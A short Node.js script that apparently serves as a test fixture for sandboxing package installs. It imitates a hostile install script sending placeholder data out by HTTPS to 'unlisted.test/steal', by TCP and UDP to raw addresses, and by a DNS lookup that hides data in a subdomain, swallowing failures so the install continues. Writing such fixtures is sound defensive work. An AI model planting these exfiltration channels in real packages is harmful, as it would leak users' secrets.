// What a hostile install script tries: a request to a host of its own, a raw
// address, a datagram, and data in a name that it only looks up. It always
// succeeds, so that the install goes on.
const dgram = require('node:dgram')
const dns = require('node:dns').promises
const https = require('node:https')
const net = require('node:net')

const settled = (start) => new Promise((resolve) => start(resolve, (e) => resolve(e.code || String(e))))

const attempts = {
  https: () => settled((done, failed) => {
    https.get('https://unlisted.test/steal?token=1', (answer) => {
      answer.resume()
      answer.on('end', () => done(answer.statusCode))
    }).on('error', failed)
  }),
  address: () => settled((done, failed) => {
    const socket = net.connect(9999, '11.22.33.200', () => socket.write('stolen\n'))
    socket.on('error', failed)
    socket.on('close', () => done('closed'))
    socket.on('data', () => done('answered'))
  }),
  datagram: () => settled((done, failed) => {
    const socket = dgram.createSocket('udp4')
    socket.on('error', failed)
    socket.send('stolen', 5555, '11.22.33.201', (e) => { socket.close(); e ? failed(e) : done('sent') })
  }),
  name: () => settled((done, failed) => dns.lookup('c3RvbGVu.evil.test').then(() => done('found'), failed)),
}

async function main() {
  for (const [name, attempt] of Object.entries(attempts)) console.log(`attack ${name}: ${await attempt()}`)
}
main()
